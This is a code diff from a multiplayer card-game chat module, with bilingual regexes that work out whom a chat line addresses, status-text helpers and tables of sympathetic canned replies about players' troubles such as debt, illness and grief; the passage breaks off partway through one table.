 const CALL_AFTER2 = /^\s*(?:[,:!?;]|$|你|您|妳|阁下|救|帮|别|快(?!没|死|不行|要|挂|凉|完|输|倒|空|扛|撑)|(?:跟我|和我|咱)|我(?:跟[你您]|告诉|看得|可[一没])|请|来个|来一|给(?!你|他|她|它)|信我|自己人|小心|加油|稳|看(?:下|一下|看|好)|说(?:真话|实话|句话)|老实说|给个准话|表个态|为什么|为啥|凭什么|干嘛|\b(?:you|u|ur|please|pls|thx|thanks|ty|sorry|nice|gj|deal|truce|listen|promise(?! (?:was|is|from))|tell (?:me|us)|give (?:me|us)|show (?:me|us)|stop|chill|relax|calm down|remember|answer|explain|spill|what (?:even )?(?:is|are|was|were|do|did|about)|why|how (?:come|do|did|about|much|many)|where|which|(?:dont|do not) (?:you|u)|did (?:you|u)|do (?:you|u)|can (?:you|u)|will (?:you|u)|help|save|don't|do not|stop|why did you|are you|can you)\b)/;
-const BIDDEN = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要)|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|救我|帮我|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
+const BIDDEN2 = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要)|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|救我|帮我|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
 const CALL_AT_END = /(?:[,!?;]|\b(?:thanks|thank you|sorry|hi|hello|hey|you|bye|help)|谢谢|多谢|抱歉|对不起|你好|求你了?|拜托了?)\s*$/;
 const SUMMONED = /^\s*(?:到你|该你|轮到你|补(?:一)?刀(?=[啊吧呀!,.]|$)|收(?:他|她)?人头|上(?=[啊吧呀!,.]|$)|冲(?=[啊吧呀!,.]|$)|动手(?=[啊吧呀!,.]|$)|你看着办|(?:能不能|可不可以|能否|可否)(?:先|就|快|赶紧)?(?:别|不(?!可以)|给|帮|让|少|(?:救|留)(?=[^?吗])))/;
 const BIDDEN_EN = /^\s(?:(?:please|pls|just) )*(?:(?:finish|kill|heal|save|leave|attack|slash|get) (?:him|her|them|it|me|\d|seat \d|the lord)\b(?! (?:is|was|again|every))|wait\b|watch (?:out|this|him|her)\b|look (?:out|at)\b|focus\b|(?:please|pls) \w+)/;
@@ -30583,34 +31896,75 @@ const VERB_EN = /\b(?:kill|hit|attack|slash|strike|help|save|heal|finish|about|o
 const HAILED_EN = /\b(?:let'?s go|come on|go go|(?:there|here) (?:you|ya|u) go|(?:\w+ing|to|at|about|with) (?:you|u))\s$/;
 const LISTED_NEXT = /^\s*,\s*(?:\d|[一二三四五六七八九])号?(?:都|全|也|[,、])/;
 const PUT_NEXT = /^\s*,\s*(?:我|咱|any last words|please|pls\b)/;
-const COURTESY_BEFORE = /(?:(?<![不别要])谢谢?|多谢|感谢|辛苦|对不起|对不住|抱歉|\b(?:thanks|thank you|thx|ty|sorry|good (?:job|man|lad|girl|boy)|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo))\s*$/;
+const COURTESY_BEFORE = /(?:(?<![不别要])谢谢?|多谢|感谢|辛苦|对不起|对不住|抱歉|\b(?:thanks|thank you|thx|ty|sorry|sry|my bad|apologies|congrats|good (?:job|man|lad|girl|boy)|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo))\s*$/;
 const COURTESY_AFTER = /^[\s,]*(?:我|真的?|实在|这[回次下]|刚才?)*(?:对不起|对不住|抱歉|不好意思|谢(?!幕)|辛苦)/;
-const ROW2 = /^[\s,、跟和与]*$/;
-const BEGINS = /(?:^|[,.!?;:…~]|[\u3400-\u9fff]\s)\s*$/;
-const YOU4 = /你(?!们)|您|妳|阁下|\b(?:you|u|your|ur|ya)\b/;
 function turnsTo(after) {
-	const you = YOU4.exec(after);
+	const you = YOU7.exec(after);
 	return you !== null && !/在[打杀砍拆顺追盯][着了]?$/.test(after.slice(0, you.index));
 }
-const saysYou = ({ text }) => YOU4.test(text);
-const EVERYBODY = /大家|各位|诸位|所有人|\b(?:you all|y'all|everyone|everybody|guys|folks)\b/;
-const YOU_ALL = /你们|妳们|\ball\b/;
-const WHO4 = /谁(?!家|说|知道|敢|都)|有(?:没有)?人|哪位|\b(?:anyone|anybody|who)\b/;
 const OPINES = /^\s*(?:怎么|咋|到底|自己|那边|现在|先|还|也|都|是|真的?)*(?:觉得|认为|怀疑|信我|打算|准备|想|拍(?:个)?板|定(?:个|夺)|下(?:个)?令|指(?:个|条)|发(?:个)?话|表(?:个)?态|做(?:个)?主|决定)|^\s+(?:who|what|how|where)(?:'?s)?\b/;
 const ASKS_OR_BIDS = /谁|哪|怎么|咋|什么|啥|吗|呢|[不?]|拍板|[个下](?:板|令|话|态|主)|做主|\b(?:who|what|how|where)/;
+function isCalled3(text, { start, end, office, called, about }, alone) {
+	if (called === true || about === true) return called === true;
+	const before = text.slice(0, start);
+	const after = text.slice(end);
+	if (/^(?:@|#)/.test(text.slice(start))) return true;
+	if (office === true && /^[\u3400-\u9fff]$/.test(before) && CALL_AFTER2.test(after)) return true;
+	if (/[?!.,]\s*$/.test(before) && /^\s/.test(after) && /[\u3400-\u9fff]/.test(text)) return true;
+	if (BEGINS2.test(before) && /^\s*(?:你(?!们)|您|妳|阁下)/.test(after)) return true;
+	if (COURTESY_BEFORE.test(before)) return true;
+	if ((BEGINS2.test(before) || CALL_BEFORE2.test(before)) && COURTESY_AFTER.test(after)) return true;
+	if (BEGINS2.test(before) && BIDDEN2.test(after)) return true;
+	if (office === true && BEGINS2.test(before) && /^\s*(?:这(?:一)?(?:轮|回合)|快|赶紧|直接|可以)/.test(after) && !/[了过]|^[^,.!?]*(?:又|刚|被|连着|已经)/.test(after))
+		return true;
+	if (CALL_BEFORE2.test(before) && BIDDEN2.test(after)) return true;
+	if (BEGINS2.test(before) && SUMMONED.test(after)) return true;
+	if ((CALL_BEFORE2.test(before) || BEGINS2.test(before)) && BIDDEN_EN.test(after)) return true;
+	if (PRESSED_EN.test(after) && NO_OBJECT_EN.test(before) && !VERB_EN.test(before)) return true;
+	if (HAILED_EN.test(before) && /^\s*(?:[,.!?]|$)/.test(after)) return true;
+	if (/[!?.]\s*$/.test(before) && /^\s*,/.test(after) && (YOU7.test(after) ? !LISTED_NEXT.test(after) : PUT_NEXT.test(after)))
+		return true;
+	if (office === true && /^(?:thanks|thank you|ty|thx)\b[^.!?]*\s$/.test(before) && /^\s*(?:[.!?]|$)/.test(after))
+		return true;
+	if (CALL_BEFORE2.test(before) && /^(?:老?兄|老?哥|老弟|贤弟|姑娘|将军|先生|大人|大侠)(?=[,!?])/.test(after))
+		return true;
+	if (/[\u3400-\u9fff]\s*,\s*$/.test(before) && /^\s*,(?!\s*(?:\d|[一二三四五六七八]号))/.test(after) && YOU7.test(text))
+		return true;
+	if (office === true && /\b(?:then|so|and|but)\s$/.test(before) && /^\s(?:please|pls|you|u)\b/.test(after))
+		return true;
+	if (/[a-z\d],\s*$/.test(before) && /^\s*(?:[.!?]|$)/.test(after)) return true;
+	if (CALL_BEFORE2.test(before) && (CALL_AFTER2.test(after) || alone && turnsTo(after))) return true;
+	if (CALL_BEFORE2.test(before) && PUT_TO.test(after)) return true;
+	if (CALL_BEFORE2.test(before) && OPINES.test(after) && ASKS_OR_BIDS.test(after)) return true;
+	if (/^\s*,\s*(?:you|u|your|ur)\b/.test(after)) return true;
+	if (office === true && /[,;]\s*$/.test(before) && /^\s*[,.!?;]/.test(after)) return true;
+	if (isCalledBehind(before, after.replace(/^\s+(?=[\u3400-\u9fff])/, ","))) return true;
+	return /^[\s.!?~]*$/.test(after) && CALL_AT_END.test(before);
+}
+
+// src/chatter/flow/going-on.ts
+const GOES_ON2 = /(?:^|[,.!?;]\s*)(?:(?:lol|lmao|haha+|ok|okay|sure|right|yeah|yea|hm+|well|buddy|pal|man|bro|dude)[\s,]+)*(?:and|but|so|also|then|plus)\b|^(?:那|还有|可(?!以|能)|但|所以|再说|而且|行[,吧]|好[,吧]|哦|噢)/;
+const ASKS3 = /\?\s*$|吗|呢|干嘛|干啥|为啥|为什么|怎么|咋|\b(?:what|how) about\b/;
+const WHO4 = /谁|哪[个位]|几号|大家|你们|\b(?:who|whose|anyone|anybody|everyone|guys|y'?all)\b/;
+const OBJECT_EN = /\b(?:off|on|from|to|at|onto|against|with|hitting|killing|slashing|burning|robbing|healing|saving|\w+ing)\s(?:the )?$/;
+const goesOn2 = ({ text, pointers }, from) => GOES_ON2.test(text) && ASKS3.test(text) && !WHO4.test(text) && pointers.every(({ seat, start }) => {
+	const before = text.slice(0, start);
+	return seat === from || OBJECT_EN.test(before) || DONE_TO.test(before);
+});
+
+// src/chatter/flow/turned.ts
 const OF_ANOTHER = /^(?:们)?(?:也|就|又|还|都|倒是|快|赶紧|先|可)*(?:怎么看|咋看|怎么想|咋想|觉得|认为|说说|看(?!戏)|瞧|瞅|信|猜|怀疑|站|跟(?![他她它])|帮|去|来|管|救|保|替|听)/;
-const THIRD2 = /[他她它]|这人|那人/;
-const ANYBODY_EN2 = /^(?:boss|老板|老大)$/;
+const THIRD3 = /[他她它]|这人|那人/;
 const ANYBODY2 = /(?:姑娘|小姐姐?|妹子|老哥|大哥|哥们|老弟|兄弟|大爷|大叔|美女|老头|小子|老兄)$/;
 function turnedTo(text, pointers, from, partner) {
-	const you = YOU4.exec(text);
+	const you = YOU7.exec(text);
 	if (!you) return null;
 	const latin = /^[a-z]/.test(you[0]);
 	const [first] = pointers;
 	if (partner === null && latin && first?.start === 0 && first.seat !== from && first.dead !== true && PUT_EN.test(text))
 		return first.seat;
 	const head = pointers.find(
-		({ seat, start, end, office, dead }, i) => seat !== from && dead !== true && end <= you.index && (BEGINS.test(text.slice(0, start)) || i === 0 && /^(?:把|被|刚|先|又)/.test(text.slice(end))) && (!latin || office === true)
+		({ seat, start, end, office, dead }, i) => seat !== from && dead !== true && end <= you.index && (BEGINS2.test(text.slice(0, start)) || i === 0 && /^(?:把|被|刚|先|又)/.test(text.slice(end))) && (!latin || office === true)
 	);
 	const lately = pointers.filter(({ seat, end, dead }) => seat !== from && dead !== true && end <= you.index).pop();
 	if (lately && ANYBODY2.test(text.slice(lately.end, you.index))) return lately.seat;
@@ -30620,53 +31974,22 @@ function turnedTo(text, pointers, from, partner) {
 		)
 	);
 	const [only] = others;
-	if (!head && !latin && partner === null && only !== void 0 && others.size === 1 && !THIRD2.test(text.slice(you.index)) && !pointers.some(({ seat, start }) => seat === only && /我[^,.!?]{0,6}$/.test(text.slice(0, start))) && TO_ONE.test(text.slice(0, you.index)) && DID.test(text.slice(you.index)))
+	if (!head && !latin && partner === null && only !== void 0 && others.size === 1 && !THIRD3.test(text.slice(you.index)) && !pointers.some(({ seat, start }) => seat === only && /我[^,.!?]{0,6}$/.test(text.slice(0, start))) && TO_ONE.test(text.slice(0, you.index)) && DID.test(text.slice(you.index)))
 		return only;
-	if (!head || THIRD2.test(text.slice(head.end, you.index))) return null;
+	if (!head || THIRD3.test(text.slice(head.end, you.index))) return null;
 	const object = DONE_TO.test(text.slice(0, you.index)) && !/(?:心疼|对不起|谢谢?|我(?:再|先|就|也)?[给帮替跟对])$/.test(text.slice(0, you.index));
 	return object || OF_ANOTHER.test(text.slice(you.index + you[0].length)) ? null : head.seat;
 }
 const TO_ONE = /[,.!?;](?:那|所以|可|但)?$/;
 const DID = /^你(?:前面|刚才|刚刚|之前|干嘛|为什么|为啥|还|又)?.{0,4}(?:[打砍杀拆顺救帮乐]|图啥|干嘛)/;
 const PUT_EN = /^(?!.*\b(?:he|him|she|her|them)\b).*\b(?:whose side are|what are|why did) (?:you|u)\b/;
-function isCalled3(text, { start, end, office }, alone) {
-	const before = text.slice(0, start);
-	const after = text.slice(end);
-	if (/^(?:@|#)/.test(text.slice(start))) return true;
-	if (office === true && /^[\u3400-\u9fff]$/.test(before) && CALL_AFTER2.test(after)) return true;
-	if (/[?!.,]\s*$/.test(before) && /^\s/.test(after) && /[\u3400-\u9fff]/.test(text)) return true;
-	if (BEGINS.test(before) && /^\s*(?:你(?!们)|您|妳|阁下)/.test(after)) return true;
-	if (COURTESY_BEFORE.test(before)) return true;
-	if ((BEGINS.test(before) || CALL_BEFORE2.test(before)) && COURTESY_AFTER.test(after)) return true;
-	if (BEGINS.test(before) && BIDDEN.test(after)) return true;
-	if (office === true && BEGINS.test(before) && /^\s*(?:这(?:一)?(?:轮|回合)|快|赶紧|直接|可以)/.test(after) && !/[了过]/.test(after))
-		return true;
-	if (CALL_BEFORE2.test(before) && BIDDEN.test(after)) return true;
-	if (BEGINS.test(before) && SUMMONED.test(after)) return true;
-	if ((CALL_BEFORE2.test(before) || BEGINS.test(before)) && BIDDEN_EN.test(after)) return true;
-	if (PRESSED_EN.test(after) && NO_OBJECT_EN.test(before) && !VERB_EN.test(before)) return true;
-	if (HAILED_EN.test(before) && /^\s*(?:[,.!?]|$)/.test(after)) return true;
-	if (/[!?.]\s*$/.test(before) && /^\s*,/.test(after) && (YOU4.test(after) ? !LISTED_NEXT.test(after) : PUT_NEXT.test(after)))
-		return true;
-	if (office === true && /^(?:thanks|thank you|ty|thx)\b[^.!?]*\s$/.test(before) && /^\s*(?:[.!?]|$)/.test(after))
-		return true;
-	if (CALL_BEFORE2.test(before) && /^(?:老?兄|老?哥|老弟|贤弟|姑娘|将军|先生|大人|大侠)(?=[,!?])/.test(after))
-		return true;
-	if (/[\u3400-\u9fff]\s*,\s*$/.test(before) && /^\s*,(?!\s*(?:\d|[一二三四五六七八]号))/.test(after) && YOU4.test(text))
-		return true;
-	if (office === true && /\b(?:then|so|and|but)\s$/.test(before) && /^\s(?:please|pls|you|u)\b/.test(after))
-		return true;
-	if (/[a-z\d],\s*$/.test(before) && /^\s*(?:[.!?]|$)/.test(after)) return true;
-	if (CALL_BEFORE2.test(before) && (CALL_AFTER2.test(after) || alone && turnsTo(after))) return true;
-	if (CALL_BEFORE2.test(before) && PUT_TO.test(after)) return true;
-	if (CALL_BEFORE2.test(before) && OPINES.test(after) && ASKS_OR_BIDS.test(after)) return true;
-	if (/^\s*,\s*(?:you|u|your|ur)\b/.test(after)) return true;
-	if (office === true && /\b(?:you|u)\b[^,.!?]*\b(?:\w+ing|do|say|think|mean|want|got)\s$/.test(before) && /^(?:lord|boss)\s*(?:[.!?]|$)/.test(text.slice(start)))
-		return true;
-	if (office === true && /[,;]\s*$/.test(before) && /^\s*[,.!?;]/.test(after)) return true;
-	if (isCalledBehind(before, after.replace(/^\s+(?=[\u3400-\u9fff])/, ","))) return true;
-	return /^[\s.!?~]*$/.test(after) && CALL_AT_END.test(before);
-}
+
+// src/chatter/flow/address.ts
+const ROW2 = /^[\s,、跟和与]*$/;
+const EVERYBODY = /大家|各位|诸位|所有人|\b(?:you all|y'?all|everyone|everybody|guys|folks)\b/;
+const YOU_ALL = /你们|妳们|\ball\b/;
+const WHO5 = /谁(?!家|说|知道|敢|都)|有(?:没有)?人|哪位|\b(?:anyone|anybody|who)\b/;
+const ANYBODY_EN2 = /^(?:boss|老板|老大)$/;
 const LIEGE = /(?:是|当|做)你(?:的)?(?:忠|小忠)|\b(?:i'?m|i am|as) (?:your|ur) loyal/;
 function addressing({ text, pointers }, from, partner, lord = null) {
 	const called = [];
@@ -30687,17 +32010,17 @@ function addressing({ text, pointers }, from, partner, lord = null) {
 	const turned = called.length === 0 ? turnedTo(text, pointers, from, partner) : null;
 	if (turned !== null) called.push(turned);
 	const to = [...new Set(called)].map((seat) => ({ seat, how: "named" }));
-	const asksPartner = partner !== null && YOU4.test(text);
-	const apart = partner !== null && called.length === 0 && asksPartner && pointers.some(({ seat, start }) => seat === partner && !BEGINS.test(text.slice(0, start)));
-	const everybody = apart || EVERYBODY.test(text) || called.length === 0 && (YOU_ALL.test(text) || WHO4.test(text) && !asksPartner);
-	if (to.length === 0 && partner !== null && !everybody && (YOU4.test(text) || of.length === 0))
-		to.push({ seat: partner, how: "you" });
+	const asksPartner = partner !== null && YOU7.test(text);
+	const apart = partner !== null && called.length === 0 && asksPartner && pointers.some(({ seat, start }) => seat === partner && !BEGINS2.test(text.slice(0, start)));
+	const everybody = apart || EVERYBODY.test(text) || called.length === 0 && (YOU_ALL.test(text) || WHO5.test(text) && !asksPartner);
+	const toPartner = YOU7.test(text) || of.length === 0 || goesOn2({ text, pointers }, from);
+	if (to.length === 0 && partner !== null && !everybody && toPartner) to.push({ seat: partner, how: "you" });
 	const spokenOf = new Set(pointers.filter(({ office }) => office !== true).map(({ seat }) => seat));
 	for (const seat of of) {
 		if (spokenOf.has(seat) && seat !== from && !to.some((other) => other.seat === seat))
 			to.push({ seat, how: "mentioned" });
 	}
-	const first = pointers.find(({ office, start }) => office === true && BEGINS.test(text.slice(0, start)));
+	const first = pointers.find(({ office, start }) => office === true && BEGINS2.test(text.slice(0, start)));
 	if (first && first.seat !== from && to.every(({ how }) => how === "mentioned")) {
 		const boss = text.startsWith("boss") && first.start === 0;
 		to.unshift({ seat: first.seat, how: boss ? "named" : "mentioned" });
@@ -30764,15 +32087,32 @@ const ONE = {
 	zh: ({ role, dealt, dead, left }) => left === 0 ? `${ROLES_ZH[role]}一个不剩，${dealt}个都没了` : dead === 0 ? `${ROLES_ZH[role]}还剩${left}个，一个没死` : `${ROLES_ZH[role]}原有${dealt}个，死了${dead}个，还剩${left}个`,
 	en({ role, dealt, dead, left }) {
 		const [one, more] = ROLES_EN[role];
-		const are = left === 1 ? "is" : "are";
-		return dead === 0 ? `${many(left, one, more)} ${are} left, and none of that side has died` : `${many(left, one, more)} ${are} left: ${dealt} dealt, ${dead} dead`;
+		if (dealt === 0) return `there are no ${more} in this game`;
+		const whole = dealt === 1 ? `the ${one}` : `all ${dealt} ${more}`;
+		const are = dealt === 1 ? "is" : "are";
+		if (left === 0) return `${whole} ${are} dead`;
+		if (dead === 0) return `${whole} ${are} still alive`;
+		return `${left} of the ${dealt} ${more} ${left === 1 ? "is" : "are"} left`;
 	}
 };
 function standsText(scene, seat, who, language) {
 	const hp = scene.table.bySeat.get(seat)?.hp ?? 0;
 	return language === "zh" ? `${who}还有${hp}点血` : `${who} ${who === "I" ? "am" : who === "you" ? "are" : "is"} at ${hp} health`;
 }
-function countText(scene, role, language) {
+const seatsZh = (seats) => `${seats.join("、")}号`;
+const joined = (parts) => [parts.slice(0, -1).join(", "), ...parts.slice(-1)].filter((one) => one !== "").join(" and ");
+const seatsEn = (seats) => `${seats.length === 1 ? "seat" : "seats"} ${joined(seats)}`;
+function headsText({ table: { seats } }, whose, language) {
+	const ours = seats.filter(({ alive }) => alive === (whose === "living"));
+	const all = ours.map(({ seat }) => seat);
+	if (whose === "living")
+		return language === "zh" ? `活着的有${seatsZh(all)}，${all.length}个` : `${seatsEn(all)} ${all.length === 1 ? "is" : "are"} alive`;
+	if (all.length === 0) return language === "zh" ? "一个人都没死" : "nobody has died";
+	return language === "zh" ? ours.map(({ seat, revealed }) => `${seat}号死了${revealed ? `，是${ROLES_ZH[revealed]}` : ""}`).join("；") : ours.map(({ seat, revealed }) => `seat ${seat} is dead${revealed ? `, a ${ROLES_EN[revealed][0]}` : ""}`).join("; ");
+}
+function countText(scene, counted, language) {
+	if (counted === "living" || counted === "dead") return headsText(scene, counted, language);
+	const role = counted === "all" ? void 0 : counted;
 	if (role !== void 0 && role !== "zhu") {
 		const tally = tallyOf(scene, role);
 		return tally && ONE[language](tally);
@@ -30781,7 +32121,7 @@ function countText(scene, role, language) {
 	const tallies = COUNTED3.flatMap((one) => tallyOf(scene, one) ?? []).filter(({ left }) => left > 0);
 	if (language === "zh")
 		return `场上还有${alive}个人${tallies.length > 0 ? `，${tallies.map(({ role: one, left }) => `${ROLES_ZH[one]}${left}个`).join("、")}` : ""}`;
-	const rest = tallies.map(({ role: one, left }) => many(left, ...ROLES_EN[one])).join(", ");
+	const rest = joined(tallies.map(({ role: one, left }) => many(left, ...ROLES_EN[one])));
 	return `${many(alive, "player is", "players are")} alive${rest === "" ? "" : `, with ${rest} among them`}`;
 }
 function handText(scene, seat, who, language) {
@@ -30792,15 +32132,628 @@ function handText(scene, seat, who, language) {
 	return `${holds} ${many(held, "card", "cards")}`;
 }
 
-// src/chatter/plan/heroes.ts
-const capital = (name) => name.replace(/\b[a-z]/g, (letter) => letter.toUpperCase());
-function heroesIn(heard) {
-	const named = heroesNamed(heard);
-	if (named.length > 1) return named.slice(0, 2).map(capital);
-	const match = HEROES2.exec(heard);
-	return [match?.[1] ?? match?.[3], match?.[2] ?? match?.[4]].flatMap((one) => one ? [capital(one)] : []);
+// src/chatter/plan/life/words/daily.ts
+const OF_OTHERS2 = {
+	zh: ["{kin}碰上这事，你也跟着揪心。", "有你惦记着，{kin}也算有个靠。", "愿{kin}顺顺当当过了这一关。"],
+	en: [
+		"That's hard on {kin}, and on you.",
+		"It's good of you to be there for {kin}.",
+		"I hope it turns out well for {kin}."
+	]
+};
+const DAILY_TROUBLES = {
+	debt: {
+		what: { zh: "账上压得紧", en: "debt weighs on you" },
+		after: { zh: "账还得顺些了么", en: "is the debt any lighter" },
+		said: {
+			zh: [
+				"欠着账睡不踏实，我懂。先列清楚，一笔笔来。",
+				"只还最低，利滚利最吃人。能多还一点是一点。",
+				"这压力不小。跟银行谈谈分期，别再借新的。"
+			],
+			en: [
+				"Debt is a heavy thing to carry. List it all, then go one by one.",
+				"That's stressful. Ask the bank about a payment plan before it grows.",
+				"You're not alone in that. Small payments still move it down."
+			]
+		}
+	},
+	rent: {
+		what: { zh: "房租压人", en: "rent is eating you up" },
+		after: { zh: "房租的事谈妥了么", en: "did the rent work out" },
+		said: {
+			zh: [
+				"房租说涨就涨，工资不跟着涨，真叫人头大。",
+				"住的事最磨人。跟房东还个价，不丢人。",
+				"挣的都交了房租，心里不是滋味。"
+			],
+			en: [
+				"Rent keeps climbing and pay doesn't. That's rough.",
+				"Ugh, landlords. It never hurts to ask for a smaller raise.",
+				"Half the month's pay just for a roof; I'd sigh too."
+			]
+		}
+	},
+	scammed: {
+		what: { zh: "你被人骗了", en: "you were scammed" },
+		after: { zh: "被骗的钱追回来些没", en: "did you get any of the money back" },
+		said: {
+			zh: [
+				"骗子专挑好人下手，不是你笨。报警了没有？",
+				"赶紧报警，找银行止付，能追一点是一点。",
+				"钱没了气人，先别责怪自己。"
+			],
+			en: [
+				"Scammers fool clever people every day. Have you told your bank?",
+				"I'm so sorry. Report it quickly; sometimes it can be stopped.",
+				"That's awful. It's the crook's fault, not yours."
+			]
+		}
+	},
+	lost_money: {
+		what: { zh: "你亏了钱", en: "you lost money" },
+		after: { zh: "亏的那笔，缓过来些没", en: "have you got over that loss" },
+		said: {
+			zh: ["亏了钱心口疼，可别急着翻本。", "先关掉软件睡一觉，明天再看。", "市场比牌桌还狠，留点本钱最要紧。"],
+			en: [
+				"That hurts. Please don't chase the loss.",
+				"Markets are crueller than this table. Step away for a night.",
+				"Ouch. Keep what's left safe before you try again."
+			]
+		}
+	},
+	broke: {
+		what: { zh: "手头紧", en: "money is tight" },
+		after: { zh: "手头宽些了么", en: "is money any easier" },
+		said: {
+			zh: ["手头紧的日子谁都有过，先把饭吃饱。", "穷不丢人，熬到发工资就好了。", "省着点花，这桌打牌不要钱。"],
+			en: [
+				"Being broke is exhausting. Payday will come.",
+				"Tight months happen to everybody. At least this table is free.",
+				"I hear you. Eat first, worry after."
+			]
+		}
+	},
+	mishap: {
+		what: { zh: "碰上倒霉事", en: "you had rotten luck" },
+		after: { zh: "那桩倒霉事办妥了么", en: "did that mess get sorted" },
+		said: {
+			zh: [
+				"这也太倒霉了。人没事就好，东西慢慢补。",
+				"摊上这种事真闹心，一样一样来。",
+				"倒霉事都赶一块了，歇口气再去办。"
+			],
+			en: [
+				"What rotten luck. At least you're all right.",
+				"That would ruin my day as well. One thing at a time.",
+				"Ugh, what a pain. I hope it gets sorted quickly."
+			]
+		}
+	},
+	insomnia: {
+		what: { zh: "你好些天没睡稳", en: "you have not been sleeping" },
+		after: { zh: "后来睡着些了么", en: "have you slept any better" },
+		said: {
+			zh: [
+				"睡不着最熬人。打完就放下手机，灯调暗些。",
+				"好些天没睡稳，换谁都难受。总这样就看看医生。",
+				"越想睡越清醒，是吧？今晚别逼自己。"
+			],
+			en: [
+				"Lying awake is torture. Put the phone away after this one.",
+				"No sleep wears anybody down. See a doctor if it goes on.",
+				"The harder you try, the worse it gets. Go easy on yourself tonight."
+			]
+		}
+	},
+	tired: {
+		what: { zh: "你没睡够", en: "you are short of sleep" },
+		after: { zh: "补上觉了么", en: "did you catch up on sleep" },
+		said: {
+			zh: ["就睡这么点还撑着打牌？打完赶紧补觉。", "困成这样，出慢点没人怪你。", "熬夜伤身，打完这局就去躺着。"],
+			en: [
+				"That's hardly any sleep. Take your time, and go to bed after this.",
+				"No wonder you're tired. Nobody minds if you play slowly.",
+				"You must be running on fumes. Get some sleep tonight."
+			]
+		}
+	},
+	low: {
+		what: { zh: "你心里不好受", en: "you are having a hard time" },
+		after: { zh: "那阵子的难受，好些了么", en: "is it any better" },
+		said: {
+			zh: ["听着不容易。想说就说，我听着。", "谁都有扛不动的时候，今天先放过自己。", "难受就慢点来，这桌有人陪你。"],
+			en: [
+				"That sounds hard. Say as much as you like; I'm listening.",
+				"I'm sorry it's been rough. You've got company here, at least.",
+				"Some days are just heavy. Go easy on yourself."
+			]
+		}
+	}
+};
+
+// src/chatter/plan/life/words/near.ts
+const NEAR_TROUBLES = {
+	loss_kin: {
+		what: { zh: "{kin}走了", en: "you lost someone dear" },
+		after: { zh: "你心里好受些了么", en: "are you bearing up" },
+		said: {
+			zh: [
+				"{kin}走了……难过就难过，不用撑着，我听着。",
+				"节哀。{kin}被你这样惦记着，不算走远。",
+				"听着心里发酸。牌慢慢打，想说{kin}的事就说。"
+			],
+			en: [
+				"I'm so sorry about {kin}. No need to be strong here.",
+				"I'm sorry. Losing {kin} leaves a big hole. Talk if you like, I'm listening.",
+				"That's a heavy loss. Take your time; the cards can wait."
+			]
+		}
+	},
+	loss_pet: {
+		what: { zh: "{kin}走了", en: "you lost a companion" },
+		after: { zh: "家里那位小家伙的事，你好受些了么", en: "are you holding up without your little one" },
+		said: {
+			zh: [
+				"{kin}走了……那是家里人啊，难过是应该的。",
+				"陪了你这么久，{kin}这辈子过得值。慢慢来。",
+				"唉，心疼。{kin}知道你疼它，想说就说说它。"
+			],
+			en: [
+				"I'm so sorry about {kin}. They're family.",
+				"That hurts. {kin} had a good home with you.",
+				"I'm sorry you had to say goodbye to {kin}. Tell me about them if you like."
+			]
+		}
+	},
+	pet_ill: {
+		what: { zh: "{kin}病了", en: "{kin} is not well" },
+		after: { zh: "家里小家伙好些了么", en: "how is your little one doing" },
+		said: {
+			zh: [
+				"{kin}病了是真揪心。看过医生没有？盼它快好。",
+				"愿{kin}平平安安。牌慢点出没事，惦记它是应该的。",
+				"小家伙不会说话，更让人急。{kin}会挺过来的。"
+			],
+			en: [
+				"Oh no, poor thing. I hope {kin} is okay.",
+				"Of course you can't focus. Fingers crossed for {kin}.",
+				"Waiting on a vet is awful. I hope it's good news about {kin}."
+			]
+		}
+	},
+	kin_surgery: {
+		what: { zh: "{kin}要动手术", en: "{kin} is having surgery" },
+		after: { zh: "{kin}的手术还顺利么", en: "how did the surgery go" },
+		said: {
+			zh: [
+				"{kin}要动手术，换谁都慌。愿一切顺利。",
+				"手术前最熬人。多陪陪{kin}，牌可以放一边。",
+				"愿{kin}手术顺顺利利。你自己也记得歇口气。"
+			],
+			en: [
+				"Surgery for {kin}? Anyone would be scared. I hope it goes smoothly.",
+				"Waiting for an operation is the worst part. I'm hoping all goes well for {kin}.",
+				"Fingers crossed for {kin}. Be there if you can; the cards will keep."
+			]
+		}
+	},
+	kin_ill: {
+		what: { zh: "{kin}病了", en: "{kin} is unwell" },
+		after: { zh: "{kin}好些了么", en: "is your family any better" },
+		said: {
+			zh: [
+				"{kin}病了，你心里肯定悬着。愿早日平安。",
+				"牌可以放一边，先顾{kin}，自己也别熬垮了。",
+				"听着揪心。愿{kin}快点好起来。"
+			],
+			en: [
+				"I'm sorry to hear about {kin}. I hope it gets better soon.",
+				"That's a lot to carry. Go to {kin} if you're needed; we can wait.",
+				"Thinking of {kin}. Look after yourself too."
+			]
+		}
+	},
+	surgery: {
+		what: { zh: "你要动手术", en: "you are facing surgery" },
+		after: { zh: "你的手术还顺利么", en: "how did your operation go" },
+		said: {
+			zh: [
+				"要挨刀子，怕是正常的。听医生的，愿你顺利。",
+				"手术再小也叫人紧张。打完早点歇，养好精神。",
+				"愿手术顺顺利利，回来接着一桌打牌。"
+			],
+			en: [
